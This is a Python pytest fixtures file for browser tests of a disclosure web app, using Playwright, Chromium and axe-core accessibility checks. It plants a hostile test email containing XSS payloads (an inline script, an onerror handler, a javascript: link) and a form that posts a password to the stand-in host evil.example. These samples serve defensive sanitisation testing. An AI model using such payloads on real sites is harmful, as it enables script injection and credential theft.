"""Browser test fixtures: a workspace built from the demo corpus (plus a hostile email), a real
`disclose serve` on a free 127.0.0.1 port, Debian's Chromium driven by Playwright, axe-core."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import time
from datetime import datetime, timezone
from email.message import EmailMessage
from pathlib import Path

import httpx
import pytest

HERE = Path(__file__).resolve().parent
ARTIFACTS = HERE.parent / "artifacts"
AXE = HERE / "node_modules" / "axe-core" / "axe.min.js"
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--no-first-run", "--disable-sync"]
HOSTILE_HOST = "evil.example"
HOSTILE_SUBJECT = "Hostile newsletter"
HOSTILE_HTML = f"""<html><head><script>document.title = "pwned"; window.pwned = 1;</script></head><body>
<p style="color: #0b0c0c">Dear resident, the <b>Riverside</b> newsletter is below.</p>
<img src="http://{HOSTILE_HOST}/track.png" alt="tracker">
<img src="x" onerror="window.pwned = 2; document.title = 'pwned'">
<form action="http://{HOSTILE_HOST}/steal" method="post"><input name="password"><button>Send</button></form>
<a href="javascript:window.pwned=3">click</a>
<iframe src="http://{HOSTILE_HOST}/frame"></iframe>
</body></html>"""

missing = [what for what, ok in [("Debian's chromium", Path(CHROMIUM).exists()), ("axe-core (npm ci in tests/browser)", AXE.exists())] if not ok]
# On a developer machine without them the browser journeys are skipped; in CI (CI=true) their
# absence is a failure, because `bash deploy/bootstrap.sh test` installs both.
if missing and os.environ.get("CI"):
    raise RuntimeError(f"browser tests need {', '.join(missing)}: run bash deploy/bootstrap.sh test")
pytestmark = pytest.mark.skipif(bool(missing), reason=f"needs {', '.join(missing)}")


def hostile_email() -> bytes:
    message = EmailMessage()
    message["From"] = "Newsletter <news@example.com>"
    message["To"] = "Sam Taylor <cllr.sam.taylor@northshire.gov.uk>"
    message["Subject"] = HOSTILE_SUBJECT
    message["Date"] = "Tue, 05 Mar 2024 10:00:00 +0000"
    message["Message-ID"] = "<hostile-1@example.com>"
    message.set_content(HOSTILE_HTML, subtype="html")
    return message.as_bytes()


@pytest.fixture(scope="session")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo corpus ingested for its three custodians, plus a hostile HTML email for Sam Taylor."""
    from disclose.workspace import open_workspace
    from indexer.pipeline import ingest_paths
    from indexer.services import open_services
    from ui.demo.corpus import CUSTODIANS, SAM, build

    root = tmp_path_factory.mktemp("browser")
    corpus = root / "corpus"
    build(corpus)
    (corpus / SAM.folder / "mail" / "hostile-newsletter.eml").write_bytes(hostile_email())
    home = root / "home"
    services = open_services(open_workspace(home))
    try:
        for custodian in CUSTODIANS:
            ingest_paths(services, [corpus / custodian.folder], [custodian.name])
    finally:
        services.close()
    return home


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture(scope="session")
def server(workspace: Path):  # type: ignore[no-untyped-def]
    port = free_port()
    command = shutil.which("disclose", path=str(Path(sys.executable).parent)) or shutil.which("disclose")
    assert command, "the disclose command is not installed"
    log = open(workspace.parent / "serve.log", "wb")
    process = subprocess.Popen([command, "--home", str(workspace), "serve", "--port", str(port)], stdout=log, stderr=subprocess.STDOUT,
                               env={**os.environ, "DISCLOSE_USER": "browser-test"})
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 90
    while True:
        try:
            if httpx.get(f"{base}/health", timeout=2).status_code == 200:
                break
        except httpx.HTTPError:
            pass
        if process.poll() is not None or time.monotonic() > deadline:
            process.kill()
            raise RuntimeError(f"disclose serve did not start: {(workspace.parent / 'serve.log').read_text()[-2000:]}")
        time.sleep(0.3)
    yield base
    process.terminate()
    try:
        process.wait(timeout=10)
    except subprocess.TimeoutExpired:
        process.kill()
    log.close()


@pytest.fixture(scope="session")
def browser():  # type: ignore[no-untyped-def]
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        yield launched
        launched.close()


class Watch:
    """Every request the page makes to a host other than the server (none should leave)."""

    def __init__(self) -> None:
        self.foreign: list[str] = []
        self.page_errors: list[str] = []


@pytest.fixture
def page(browser, server):  # type: ignore[no-untyped-def]
    context = browser.new_context(base_url=server, accept_downloads=True, viewport={"width": 1280, "height": 900})
    watch = Watch()

    def outside(route):  # type: ignore[no-untyped-def]
        watch.foreign.append(route.request.url)
        route.abort()

    context.route(lambda url: not url.startswith(server) and not url.startswith(("data:", "about:", "blob:")), outside)
    opened = context.new_page()
    opened.on("pageerror", lambda error: watch.page_errors.append(str(error)))
    opened.watch = watch
    opened.set_default_timeout(20_000)
    yield opened
    context.close()
    assert not watch.page_errors, f"JavaScript errors on the page: {watch.page_errors}"


def screenshot(page, name: str) -> Path:  # type: ignore[no-untyped-def]
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    target = ARTIFACTS / f"{name}.png"
    page.screenshot(path=str(target), full_page=True)
    return target


def serious_violations(page) -> list[dict]:  # type: ignore[no-untyped-def]
    """axe-core's serious and critical violations on the current page (evaluated over CDP, so the
    page's own CSP, which forbids inline scripts, does not have to be relaxed)."""
    if not page.evaluate("typeof window.axe !== 'undefined'"):
        page.evaluate(AXE.read_text(encoding="utf-8") + "\n;undefined")
    found = page.evaluate("async () => (await axe.run(document, {resultTypes: ['violations']})).violations")
    return [{"id": v["id"], "impact": v["impact"], "help": v["help"], "nodes": [n["target"] for n in v["nodes"]][:5]}
            for v in found if v["impact"] in ("serious", "critical")]


def assert_accessible(page, name: str) -> None:  # type: ignore[no-untyped-def]
    screenshot(page, name)
    problems = serious_violations(page)
    assert not problems, f"axe found serious violations on {name}: {json.dumps(problems, indent=1)}"


def api(server: str, method: str, path: str, **kwargs):  # type: ignore[no-untyped-def]
    response = httpx.request(method, server + path, headers={"Accept": "application/json"}, timeout=120, **kwargs)
    assert response.status_code < 300, response.text
    return response.json()


def today() -> str:
    return datetime.now(timezone.utc).date().isoformat()
